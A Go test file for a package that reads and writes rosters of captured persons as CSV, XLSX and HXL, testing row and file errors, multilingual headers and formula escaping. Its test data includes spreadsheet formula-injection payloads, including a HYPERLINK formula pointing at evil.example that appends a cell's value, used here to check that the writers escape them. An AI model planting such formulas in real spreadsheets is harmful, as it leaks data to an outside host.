package roster

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/parley-talks/parley"
	"github.com/xuri/excelize/v2"
)

// csvText writes rows as a CSV file separated by sep.
func csvText(rows [][]string, sep rune) string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Comma = sep
	w.WriteAll(rows)
	return b.String()
}

// xlsxFile returns a workbook whose first sheet holds rows from A1, each
// cell set by excelize as its Go type says (a string is a text cell), nil
// left empty; edit, if not nil, changes the workbook before it is written.
func xlsxFile(tb testing.TB, rows [][]any, edit func(f *excelize.File)) []byte {
	tb.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for r, row := range rows {
		for c, v := range row {
			if v == nil {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if err := f.SetCellValue("Sheet1", cell, v); err != nil {
				tb.Fatal(err)
			}
		}
	}
	if edit != nil {
		edit(f)
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

func anyRows(rows [][]string) [][]any {
	out := make([][]any, len(rows))
	for i, r := range rows {
		for _, c := range r {
			out[i] = append(out[i], c)
		}
	}
	return out
}

// readFile reads a file in either format, failing the test on a
// file-level error.
func readFile(tb testing.TB, data []byte, format Format, opts ...Options) *Import {
	tb.Helper()
	im, err := Read(bytes.NewReader(data), format, "list."+string(format), opts...)
	if err != nil {
		tb.Fatalf("Read: %v", err)
	}
	return im
}

// inBoth returns rows as a CSV file and as a workbook, with a function that
// writes column n (from 1) as each format names it.
func inBoth(tb testing.TB, rows [][]string) map[Format]struct {
	data []byte
	col  func(n int) string
} {
	return map[Format]struct {
		data []byte
		col  func(n int) string
	}{
		CSV:  {[]byte(csvText(rows, ',')), func(n int) string { return fmt.Sprint(n) }},
		XLSX: {xlsxFile(tb, anyRows(rows), nil), func(n int) string { s, _ := excelize.ColumnNumberToName(n); return s }},
	}
}

// TestRowErrors shows that every kind of row error is reported, all of them,
// each named by the row and the column (header, field and place), in CSV and
// XLSX alike.
func TestRowErrors(t *testing.T) {
	header := []string{"ID", "Прізвище", "Ім'я", "По батькові", "Дата народження", "capture_date", "script", "medical_needs"}
	field := []string{"ref", "family_name", "given_name", "patronymic", "birth_date", "capture_date", "script", "medical_needs"}
	type want struct {
		row, col int
		msg      string
	}
	long := strings.Repeat("я", parley.MaxPersonName+1)
	tests := []struct {
		name string
		rows [][]string // below the header
		want []want
	}{
		{"no errors", [][]string{{"1", "Шевченко", "Тарас"}, {"2", "Бойко", "Іван", "", "1990-07", "2023", "", "insulin\ntwice a day"}}, nil},
		{"required values missing", [][]string{{"1", "", "Тарас"}, {"", "Бойко", " "}}, []want{
			{2, 2, "is required"}, {3, 1, "is required"}, {3, 3, "is required"}}},
		{"bad dates", [][]string{{"1", "Шевченко", "Тарас", "", "31.07.1990", "1850"}, {"2", "Бойко", "Іван", "", "1990-02-30"}}, []want{
			{2, 5, `"31.07.1990" is not a date: write it as YYYY-MM-DD (1990-07-31), YYYY-MM (1990-07) or YYYY (1990)`},
			{2, 6, `"1850": the year must be between 1900 and 2999`},
			{3, 5, `"1990-02-30" is not a date: write it as YYYY-MM-DD (1990-07-31), YYYY-MM (1990-07) or YYYY (1990)`}}},
		{"too long", [][]string{{"1", long, "Тарас", long}}, []want{
			{2, 2, "is longer than 100 characters"}, {2, 4, "is longer than 100 characters"}}},
		{"control characters", [][]string{{"1", "Шев\u0085ченко", "Тарас", "", "", "", "", "ok\ttab\nnewline"}, {"2", "Бойко", "Іван", "", "", "", "", "next\u0085line"}}, []want{
			{2, 2, "contains control characters"}, {3, 8, "contains control characters"}}},
		{"bad script", [][]string{{"1", "Шевченко", "Тарас", "", "", "", "greek"}}, []want{
			{2, 7, `"greek" is not a script: write cyrillic, latin or mixed, or leave it empty`}}},
		{"ref repeated", [][]string{{"A1", "Шевченко", "Тарас"}, {"A2", "Бойко", "Іван"}, {"A1", "Коваль", "Петро"}, {"A2", "Мельник", "Ігор"}, {"A1", "Ткаченко", "Олег"}}, []want{
			{2, 1, `"A1" is also the ref of rows 4, 6`}, {3, 1, `"A2" is also the ref of row 5`},
			{4, 1, `"A1" is also the ref of rows 2, 6`}, {5, 1, `"A2" is also the ref of row 3`},
			{6, 1, `"A1" is also the ref of rows 2, 4`}}},
		{"ref repeated many times", [][]string{{"A", "Шевченко", "Тарас"}, {"A", "Бойко", "Іван"}, {"A", "Коваль", "Петро"},
			{"A", "Мельник", "Ігор"}, {"A", "Ткаченко", "Олег"}, {"A", "Кравець", "Ілля"}, {"A", "Лисенко", "Юрій"}}, []want{
			{2, 1, `"A" is also the ref of rows 3, 4, 5, 6, 7 and 1 more`}, {3, 1, `"A" is also the ref of rows 2, 4, 5, 6, 7 and 1 more`},
			{4, 1, `"A" is also the ref of rows 2, 3, 5, 6, 7 and 1 more`}, {5, 1, `"A" is also the ref of rows 2, 3, 4, 6, 7 and 1 more`},
			{6, 1, `"A" is also the ref of rows 2, 3, 4, 5, 7 and 1 more`}, {7, 1, `"A" is also the ref of rows 2, 3, 4, 5, 6 and 1 more`},
			{8, 1, `"A" is also the ref of rows 2, 3, 4, 5, 6 and 1 more`}}},
		{"empty rows skipped, numbers kept", [][]string{{"1", "Шевченко", "Тарас"}, {"", "", ""}, {" ", "", "", "", "", "", "", ""}, {"2", "", "Іван"}}, []want{
			{5, 2, "is required"}}},
		{"every error of a row", [][]string{{"", long, "", "", "1990-13", "2023-00", "latin?", "ok"}}, []want{
			{2, 1, "is required"}, {2, 2, "is longer than 100 characters"}, {2, 3, "is required"},
			{2, 5, `"1990-13" is not a date: write it as YYYY-MM-DD (1990-07-31), YYYY-MM (1990-07) or YYYY (1990)`},
			{2, 6, `"2023-00" is not a date: write it as YYYY-MM-DD (1990-07-31), YYYY-MM (1990-07) or YYYY (1990)`},
			{2, 7, `"latin?" is not a script: write cyrillic, latin or mixed, or leave it empty`}}},
	}
	for _, tt := range tests {
		for format, file := range inBoth(t, append([][]string{header}, tt.rows...)) {
			t.Run(tt.name+"/"+string(format), func(t *testing.T) {
				im := readFile(t, file.data, format)
				var wantErrs []CellError
				rows := map[int]bool{}
				for _, w := range tt.want {
					wantErrs = append(wantErrs, CellError{Row: w.row, Column: header[w.col-1], Field: field[w.col-1], Col: file.col(w.col), Message: w.msg})
					rows[w.row] = true
				}
				if got := im.Errors(); !slices.Equal(got, wantErrs) {
					t.Errorf("errors:\n%s\nwant:\n%s", errorList(got), errorList(wantErrs))
				}
				if im.Invalid() != len(rows) {
					t.Errorf("Invalid() = %d, want %d", im.Invalid(), len(rows))
				}
				nonEmpty := 0
				for _, r := range tt.rows {
					if strings.TrimSpace(strings.Join(r, "")) != "" {
						nonEmpty++
					}
				}
				if len(im.Rows) != nonEmpty || len(im.Valid()) != nonEmpty-len(rows) {
					t.Errorf("%d rows, %d valid; want %d rows, %d valid", len(im.Rows), len(im.Valid()), nonEmpty, nonEmpty-len(rows))
				}
				for _, r := range im.Rows {
					for _, e := range r.Errors {
						if e.Row != r.Row {
							t.Errorf("row %d holds an error of row %d", r.Row, e.Row)
						}
					}
				}
			})
		}
	}
}

func errorList(errs []CellError) string {
	var b strings.Builder
	for _, e := range errs {
		fmt.Fprintf(&b, "\t%s [%s]\n", e.Error(), e.Field)
	}
	return b.String()
}

// TestRowErrorsCSV shows the errors only a CSV file can have.
func TestRowErrorsCSV(t *testing.T) {
	tests := []struct {
		name, in string
		want     []CellError
	}{
		{"not UTF-8", "ref,family_name,given_name\n1,\xcf\xe5\xf2\xf0\xee,Тарас\n", []CellError{
			{Row: 2, Column: "family_name", Field: "family_name", Col: "2", Message: "is not UTF-8 text: save the file as CSV UTF-8"}}},
		{"value past the header", "ref,family_name,given_name\n1,Шевченко,Тарас Григорович,Київ\n2,Бойко,Іван,,\n", []CellError{
			{Row: 2, Col: "4", Message: "the row has 4 cells and the header 3: is a value with a comma or semicolon not quoted?"}}},
		{"not a character", "ref,family_name,given_name\n1,Шевченко\uFFFF,Тарас\n", []CellError{
			{Row: 2, Column: "family_name", Field: "family_name", Col: "2", Message: "contains a character that is not text (U+FFFE or U+FFFF)"}}},
		{"bell", "ref,family_name,given_name,medical_needs\n1,Шевченко,Тарас,bell\a\n", []CellError{
			{Row: 2, Column: "medical_needs", Field: "medical_needs", Col: "4", Message: "contains control characters"}}},
		{"short rows are empty cells", "ref,family_name,given_name,patronymic\n1,Шевченко,Тарас\n2,Бойко\n", []CellError{
			{Row: 3, Column: "given_name", Field: "given_name", Col: "3", Message: "is required"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			im := readFile(t, []byte(tt.in), CSV)
			if got := im.Errors(); !slices.Equal(got, tt.want) {
				t.Errorf("errors:\n%s\nwant:\n%s", errorList(got), errorList(tt.want))
			}
		})
	}
}

// TestRowNumbers shows that rows are numbered as a spreadsheet shows
// them: a blank line is an empty row, a value over two lines is one row.
func TestRowNumbers(t *testing.T) {
	in := "\n" + // row 1, empty: the header is row 2
		"ref,family_name,given_name,medical_needs\r\n" +
		"1,Шевченко,Тарас,\"two\r\nlines\"\r\n" + // row 3
		"\r\n" + // row 4
		"2,\"Бо\nйко\",Іван,\"three\nlines\n\"\n" + // row 5
		"\"3\",Коваль,,\n" // row 6
	im := readFile(t, []byte(in), CSV)
	var rows []int
	for _, r := range im.Rows {
		rows = append(rows, r.Row)
	}
	if !slices.Equal(rows, []int{3, 5, 6}) {
		t.Errorf("rows %v, want [3 5 6]", rows)
	}
	if got := im.Errors(); len(got) != 2 || got[0].Row != 5 || got[1].Row != 6 {
		t.Errorf("errors %v, want one on row 5 (control characters) and one on row 6", got)
	}
	if got := im.Rows[0].Person.MedicalNeeds; got != "two\nlines" {
		t.Errorf("medical needs %q, want line breaks as \\n", got)
	}
}

// TestFileErrors shows the files refused as a whole, each with a sentence
// that names the file and what is wrong.
func TestFileErrors(t *testing.T) {
	zipped := xlsxFile(t, [][]any{{"ref", "family_name", "given_name"}}, nil)
	tests := []struct {
		name   string
		format Format
		in     []byte
		want   string
	}{
		{"empty CSV", CSV, []byte(""), "list.csv: the file is empty: its first row must name the columns, at least ref, family_name, given_name."},
		{"blank CSV", CSV, []byte("\n\n , ,\n"), "list.csv: the file is empty"},
		{"empty XLSX", XLSX, xlsxFile(t, nil, nil), "list.xlsx: the file is empty"},
		{"required columns missing", CSV, []byte("ref;прізвище;patronymic\n1;Шевченко;\n"),
			"list.csv: the header (row 1) has no column for given_name (or first name, ім'я, имя, adı, ad)."},
		{"required columns missing, XLSX", XLSX, xlsxFile(t, [][]any{nil, {"Name", "Surname"}}, nil),
			"list.xlsx: the header (row 2) has no column for ref (or id, №, № п/п, no, sıra no), nor for given_name (or first name, ім'я, имя, adı, ad)."},
		{"two columns for one field", CSV, []byte("id,Прізвище,Ім'я,ref\n"), "list.csv: columns 1 (id) and 4 (ref) both give the ref."},
		{"two columns for one field, XLSX", XLSX, xlsxFile(t, [][]any{{"ref", "Фамилия", "Имя", "Прізвище"}}, nil),
			"list.xlsx: columns B (Фамилия) and D (Прізвище) both give the family_name."},
		{"header not UTF-8", CSV, []byte("ref,\xd4\xe0\xec\xe8\xeb\xe8\xff,given_name\n"), "list.csv: the header of column 2 is not UTF-8 text: save the file as CSV UTF-8."},
		{"UTF-16", CSV, []byte("\xff\xfer\x00e\x00f\x00"), "list.csv: the file is UTF-16 text: save it as CSV UTF-8."},
		{"stray quote", CSV, []byte("ref,family_name,given_name\n1,Шевченко,Тарас \"Кобзар\"\n"), `list.csv: line 2: a value has a quote (") but does not begin with one: put the whole value in quotes and double its quotes, as in "Іван ""Ваня""".`},
		{"quote not closed", CSV, []byte("ref,family_name,given_name\n1,\"Шевченко,Тарас\n"), `list.csv: line 2: a value that begins with a quote (") has no closing quote.`},
		{"XLSX read as CSV", CSV, zipped, "list.csv: the file is an XLSX (or other ZIP) file, not CSV."},
		{"CSV read as XLSX", XLSX, []byte("ref,family_name,given_name\n"), "list.xlsx: the file is not an XLSX workbook."},
		{"unknown format", Format("ods"), []byte(""), `list.ods: lists are read from CSV or XLSX files, not "ods".`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			im, err := Read(bytes.NewReader(tt.in), tt.format, "list."+string(tt.format))
			if err == nil {
				t.Fatalf("Read = %d rows, no error; want %q", len(im.Rows), tt.want)
			}
			if parley.ErrorCode(err) != parley.EINVALID || !strings.HasPrefix(parley.ErrorMessage(err), tt.want) {
				t.Errorf("Read error %q (%s), want EINVALID %q", err, parley.ErrorCode(err), tt.want)
			}
		})
	}
}

// errReader fails as a broken connection would.
type errReader struct{}

func (errReader) Read([]byte) (int, error) { return 0, io.ErrUnexpectedEOF }

// TestReaderError shows that an error of the reader is returned, wrapped,
// not mistaken for a problem of the file.
func TestReaderError(t *testing.T) {
	for format, start := range map[Format]string{CSV: "ref,family_name,given_name\n1,", XLSX: "PK\x03\x04"} {
		_, err := Read(io.MultiReader(strings.NewReader(start), errReader{}), format, "list")
		if err == nil || parley.ErrorCode(err) != parley.EINTERNAL || !strings.Contains(err.Error(), io.ErrUnexpectedEOF.Error()) {
			t.Errorf("%s: error %v, want the reader's error, EINTERNAL", format, err)
		}
	}
}

// TestFileSize shows that a file over MaxSize is refused, even a CSV file
// of one endless value.
func TestFileSize(t *testing.T) {
	for format, start := range map[Format]string{CSV: "ref,family_name,given_name\n1,\"", XLSX: "PK\x03\x04"} {
		_, err := Read(io.MultiReader(strings.NewReader(start), &repeat{b: 'a'}), format, "big")
		if parley.ErrorCode(err) != parley.EINVALID || err.Error() != "big: the file is larger than 64 MiB; split it into smaller lists." {
			t.Errorf("%s: error %v, want the file refused as too large", format, err)
		}
	}
}

type repeat struct{ b byte }

func (r *repeat) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = r.b
	}
	return len(p), nil
}

// TestRowLimit shows that a list longer than MaxRows is refused, however
// many of its rows are empty.
func TestRowLimit(t *testing.T) {
	var b strings.Builder
	b.WriteString("ref,family_name,given_name\n")
	b.WriteString(strings.Repeat("\n", MaxRows-1))
	b.WriteString("1,Шевченко,Тарас\n") // row MaxRows+1: the last allowed
	if im := readFile(t, []byte(b.String()), CSV); len(im.Rows) != 1 || im.Rows[0].Row != MaxRows+1 {
		t.Fatalf("rows %+v, want one at row %d", im.Rows, MaxRows+1)
	}
	b.WriteString("2,Бойко,Іван\n")
	_, err := Read(strings.NewReader(b.String()), CSV, "long.csv")
	if parley.ErrorCode(err) != parley.EINVALID || !strings.Contains(err.Error(), "more than 100000 rows below its header") {
		t.Errorf("error %v, want the list refused as too long", err)
	}
}

// TestProgress shows that Progress is told every 1,000 rows and at the end.
func TestProgress(t *testing.T) {
	var b strings.Builder
	b.WriteString("ref,family_name,given_name\n")
	for i := range 2500 {
		fmt.Fprintf(&b, "%d,Шевченко,Тарас\n", i)
	}
	var calls []int
	im := readFile(t, []byte(b.String()), CSV, Options{Progress: func(n int) { calls = append(calls, n) }})
	if len(im.Valid()) != 2500 || !slices.Equal(calls, []int{1000, 2000, 2500}) {
		t.Errorf("%d valid, progress %v; want 2500, [1000 2000 2500]", len(im.Valid()), calls)
	}
	readFile(t, []byte(b.String()), CSV, Options{}) // the zero value reads without progress
}

// TestSeparatorsAndBOM shows that a CSV file reads the same with or without
// a byte order mark, with commas or semicolons, and with CRLF line ends.
func TestSeparatorsAndBOM(t *testing.T) {
	rows := [][]string{{"ref", "family_name", "given_name", "unit"}, {"1", "Шевченко", "Тарас", "в/ч А0000, рота 2"}, {"2", "Бойко", "Іван", "батальйон; 3"}}
	want := []parley.Person{
		{Ref: "1", FamilyName: "Шевченко", GivenName: "Тарас", Unit: "в/ч А0000, рота 2", Script: parley.ScriptCyrillic},
		{Ref: "2", FamilyName: "Бойко", GivenName: "Іван", Unit: "батальйон; 3", Script: parley.ScriptCyrillic},
	}
	for _, tt := range []struct {
		name string
		in   string
	}{
		{"comma", csvText(rows, ',')},
		{"semicolon", csvText(rows, ';')},
		{"BOM and comma", bom + csvText(rows, ',')},
		{"BOM and semicolon", bom + csvText(rows, ';')},
		{"semicolon and CRLF", strings.ReplaceAll(csvText(rows, ';'), "\n", "\r\n")},
		{"quoted header with a comma", "\"ref\";\"family_name\";\"given_name\";\"unit\"\n1;Шевченко;Тарас;\"в/ч А0000, рота 2\"\n2;Бойко;Іван;\"батальйон; 3\"\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			im := readFile(t, []byte(tt.in), CSV)
			if got := im.Valid(); !slices.Equal(got, want) || im.Invalid() != 0 {
				t.Errorf("read %+v, errors %v; want %+v", got, im.Errors(), want)
			}
			if im.Columns[0].Header != "ref" {
				t.Errorf("first header %q, want the byte order mark removed", im.Columns[0].Header)
			}
		})
	}
}

// TestHXL shows that a row of HXL hashtags under the header is skipped, and
// that a column without a header Read knows is taken by its hashtag.
func TestHXL(t *testing.T) {
	in := "ID,Nom de famille,Prénom,,Note\n" +
		"#meta+id,#respondee +family +name,#respondee+name+given,#date+birth,#meta+note\n" +
		"1,Шевченко,Тарас,1990,x\n"
	for format, data := range map[Format][]byte{
		CSV:  []byte(in),
		XLSX: xlsxFile(t, anyRows([][]string{{"ID", "Nom de famille", "Prénom", "", "Note"}, {"#meta+id", "#respondee +family +name", "#respondee+name+given", "#date+birth", "#meta+note"}, {"1", "Шевченко", "Тарас", "1990", "x"}}), nil),
	} {
		t.Run(string(format), func(t *testing.T) {
			im := readFile(t, data, format)
			want := parley.Person{Ref: "1", FamilyName: "Шевченко", GivenName: "Тарас", BirthDate: parley.PartialDate{Year: 1990}, Script: parley.ScriptCyrillic}
			if !im.HXL || len(im.Rows) != 1 || im.Rows[0].Row != 3 || im.Rows[0].Person != want || im.Invalid() != 0 {
				t.Fatalf("HXL %v, rows %+v; want the hashtag row skipped and %+v on row 3", im.HXL, im.Rows, want)
			}
			var fields, ignored []string
			for _, c := range im.Columns {
				fields = append(fields, c.Field)
			}
			for _, c := range im.Ignored {
				ignored = append(ignored, c.Header)
			}
			if !slices.Equal(fields, []string{"ref", "family_name", "given_name", "birth_date"}) || !slices.Equal(ignored, []string{"Note"}) {
				t.Errorf("columns %v, ignored %v", fields, ignored)
			}
		})
	}
	// A first row of data that happens to begin with # is data.
	im := readFile(t, []byte("ref,family_name,given_name\n#1,Шевченко,Тарас\n"), CSV)
	if im.HXL || len(im.Valid()) != 1 {
		t.Errorf("a row with ref #1 was taken for hashtags")
	}
}

// TestHeaders shows the header names Read knows besides the JSON names:
// Ukrainian, Russian, Turkish and English, in any case, and that it lists
// the columns it ignores.
func TestHeaders(t *testing.T) {
	want := parley.Person{Ref: "7", FamilyName: "Шевченко", GivenName: "Тарас", Patronymic: "Григорович", BirthDate: parley.PartialDate{Year: 1990, Month: 7, Day: 31}, Script: parley.ScriptCyrillic}
	row := []string{"7", "Шевченко", "Тарас", "Григорович", "1990-07-31"}
	for _, tt := range []struct {
		name   string
		header []string
	}{
		{"JSON names in other cases", []string{"REF", "Family Name", "given-name", "Patronymic", "BIRTH_DATE"}},
		{"Ukrainian", []string{"№", "Прізвище", "Ім’я", "По-батькові", "Дата народження"}},
		{"Russian", []string{"№ п/п", "ФАМИЛИЯ", "Имя", "Отчество", "Дата рождения"}},
		{"Turkish", []string{"Sıra No.", "SOYADI", "Adı", "BABA ADI", "Doğum Tarihi"}},
		{"Turkish without diacritics", []string{"sira no", "Soyadi", "ADI", "baba adi", "DOGUM TARIHI"}},
		{"English", []string{"ID", "Surname", "First name", "Father's name", "Date of birth"}},
		{"required marks", []string{"ID*", "Прізвище *", "Ім'я:", "По батькові", "Дата  народження"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for format, file := range inBoth(t, [][]string{tt.header, row}) {
				im := readFile(t, file.data, format)
				if got := im.Valid(); len(got) != 1 || got[0] != want {
					t.Errorf("%s: read %+v, errors %v; want %+v", format, im.Rows, im.Errors(), want)
				}
			}
		})
	}
	im := readFile(t, []byte("Notes,ref,family_name,,given_name,Телефон\n,1,Шевченко,,Тарас,\n"), CSV)
	want2 := []Column{{Header: "Notes", Col: "1"}, {Header: "Телефон", Col: "6"}}
	if !slices.Equal(im.Ignored, want2) {
		t.Errorf("ignored %+v, want %+v", im.Ignored, want2)
	}
	wantCols := []Column{{"ref", "ref", "2"}, {"family_name", "family_name", "3"}, {"given_name", "given_name", "5"}}
	if !slices.Equal(im.Columns, wantCols) {
		t.Errorf("columns %+v, want %+v", im.Columns, wantCols)
	}
}

// TestScript shows that the script is read when the file gives it, and
// found from the names when it does not.
func TestScript(t *testing.T) {
	in := "ref,family_name,given_name,patronymic,script\n" +
		"1,Шевченко,Тарас,,\n" +
		"2,Shevchenko,Taras,,\n" +
		"3,Шевченко,Taras,,\n" +
		"4,Шевченко,Тарас,,LATIN\n" +
		"5,12,34,,\n"
	im := readFile(t, []byte(in), CSV)
	var got []parley.Script
	for _, p := range im.Valid() {
		got = append(got, p.Script)
	}
	if want := []parley.Script{parley.ScriptCyrillic, parley.ScriptLatin, parley.ScriptMixed, parley.ScriptLatin, ""}; !slices.Equal(got, want) {
		t.Errorf("scripts %q, want %q", got, want)
	}
}

// people are persons as Read makes them, with values that test the writers:
// separators, quotes, line breaks, formulas and partial dates.
var people = []parley.Person{
	{Ref: "UA-0001", FamilyName: "Шевченко", GivenName: "Олександр", Patronymic: "Іванович",
		BirthDate: parley.PartialDate{Year: 1990, Month: 7, Day: 31}, Rank: "старший солдат", ServiceNumber: "0012345",
		Unit: "в/ч А0000, 2 рота; 3 взвод", CapturePlace: "Бахмут", CaptureDate: parley.PartialDate{Year: 2023, Month: 5},
		MotherMaidenName: "Коваль", Category: "wounded", MedicalNeeds: "insulin,\ntwice a day; \"urgent\"\n\tand rest",
		Script: parley.ScriptCyrillic, Latin: "Shevchenko Oleksandr Ivanovych"},
	{Ref: "RU-17", FamilyName: "Смирнов", GivenName: "Алексей", Patronymic: "Петрович", BirthDate: parley.PartialDate{Year: 2001},
		Script: parley.ScriptCyrillic},
	{Ref: "=1+1", FamilyName: `=HYPERLINK("http://evil.example/?"&A1,"click")`, GivenName: "+380501234567", Patronymic: "-",
		Rank: "@rank", Unit: "'=quoted by hand", CapturePlace: "''+twice", Category: "'plain", MedicalNeeds: "\tindented",
		Script: parley.ScriptLatin, Latin: "O'Brien"},
	{Ref: "7", FamilyName: "Yılmaz", GivenName: "Ayşe", CaptureDate: parley.PartialDate{Year: 2024, Month: 2, Day: 29}, Script: parley.ScriptLatin},
	{Ref: "8", FamilyName: "Petrenko", GivenName: "Ivan", Patronymic: "Ivanovych", Script: parley.ScriptMixed},
	{Ref: "9", FamilyName: "12", GivenName: "34"},
	{Ref: "0010", FamilyName: "Comma, Semicolon; \"Quote\"", GivenName: "_x0041_", ServiceNumber: "1.5E+3", Script: parley.ScriptLatin},
}

var writers = map[string]struct {
	write  func(io.Writer, []parley.Person) error
	format Format
	hxl    bool
}{
	"CSV":  {WriteCSV, CSV, false},
	"HXL":  {WriteHXL, CSV, true},
	"XLSX": {WriteXLSX, XLSX, false},
}

// TestRoundTrip shows that what each writer writes, Read reads back to the
// same persons.
func TestRoundTrip(t *testing.T) {
	for name, w := range writers {
		t.Run(name, func(t *testing.T) {
			for _, p := range people {
				if err := p.Validate(); err != nil {
					t.Fatalf("test person %s: %v", p.Ref, err)
				}
			}
			var b bytes.Buffer
			if err := w.write(&b, people); err != nil {
				t.Fatal(err)
			}
			im := readFile(t, b.Bytes(), w.format)
			if got := im.Valid(); !slices.Equal(got, people) || im.Invalid() != 0 {
				t.Errorf("read back:\n%+v\nerrors %v\nwant:\n%+v", got, im.Errors(), people)
			}
			if im.HXL != w.hxl || len(im.Columns) != len(fields) || len(im.Ignored) != 0 {
				t.Errorf("HXL %v, %d columns, ignored %v", im.HXL, len(im.Columns), im.Ignored)
			}
			var empty bytes.Buffer
			if err := w.write(&empty, nil); err != nil {
				t.Fatal(err)
			}
			if im := readFile(t, empty.Bytes(), w.format); len(im.Rows) != 0 {
				t.Errorf("an empty list reads as %d rows", len(im.Rows))
			}
		})
	}
}

// TestWrittenCSV shows the CSV and HXL files as bytes: a byte order mark,
// the header, the hashtags, and formulas escaped.
func TestWrittenCSV(t *testing.T) {
	p := []parley.Person{{Ref: "1", FamilyName: `=HYPERLINK("http://evil.example","x")`, GivenName: "-2+3", Patronymic: "'=1",
		BirthDate: parley.PartialDate{Year: 1990, Month: 7}, Script: parley.ScriptLatin}}
	var b bytes.Buffer
	if err := WriteHXL(&b, p); err != nil {
		t.Fatal(err)
	}
	want := bom +
		"ref,family_name,given_name,patronymic,birth_date,rank,service_number,unit,capture_place,capture_date,mother_maiden_name,category,medical_needs,script,latin\n" +
		"#meta+id,#respondee+name+family,#respondee+name+given,#respondee+name+patronymic,#date+birth,#respondee+rank,#respondee+code+service,#group+name+unit,#loc+name+capture,#date+occurred+capture,#respondee+name+mother,#respondee+category+code,#need+medical,#meta+script,#respondee+name+latin\n" +
		`1,"'=HYPERLINK(""http://evil.example"",""x"")",'-2+3,''=1,1990-07,,,,,,,,,latin,` + "\n"
	if b.String() != want {
		t.Errorf("WriteHXL wrote\n%s\nwant\n%s", b.String(), want)
	}
	b.Reset()
	WriteCSV(&b, p)
	if want := strings.Replace(want, want[strings.Index(want, "#meta+id"):strings.Index(want, "1,\"'=")], "", 1); b.String() != want {
		t.Errorf("WriteCSV wrote\n%s\nwant\n%s", b.String(), want)
	}
}

// TestEscape shows the rule that keeps formulas from running, and that
// it is undone exactly.
func TestEscape(t *testing.T) {
	for _, tt := range []struct{ in, written string }{
		{"=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"},
		{"+380501234567", "'+380501234567"},
		{"-", "'-"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=1", "''=1"},
		{"''@", "'''@"},
		{"'Ali", "'Ali"},
		{"O'Brien", "O'Brien"},
		{"'", "'"},
		{"", ""},
		{"Шевченко", "Шевченко"},
	} {
		if got := escape(tt.in); got != tt.written {
			t.Errorf("escape(%q) = %q, want %q", tt.in, got, tt.written)
		}
		if got := unescape(tt.written); got != tt.in {
			t.Errorf("unescape(%q) = %q, want %q", tt.written, got, tt.in)
		}
	}
	// A formula escaped by hand in a spreadsheet reads as it was meant.
	im := readFile(t, []byte("ref,family_name,given_name\n1,'=1+1,'Ali\n"), CSV)
	if p := im.Valid()[0]; p.FamilyName != "=1+1" || p.GivenName != "'Ali" {
		t.Errorf("read %q and %q, want =1+1 and 'Ali", p.FamilyName, p.GivenName)
	}
}

func TestFormatOf(t *testing.T) {
	for name, want := range map[string]Format{"list.csv": CSV, "LIST.HXL": CSV, "a.b.xlsx": XLSX, "list.xls": "", "list": "", "csv": ""} {
		if got, ok := FormatOf(name); got != want || ok != (want != "") {
			t.Errorf("FormatOf(%q) = %q, %v; want %q", name, got, ok, want)
		}
	}
}
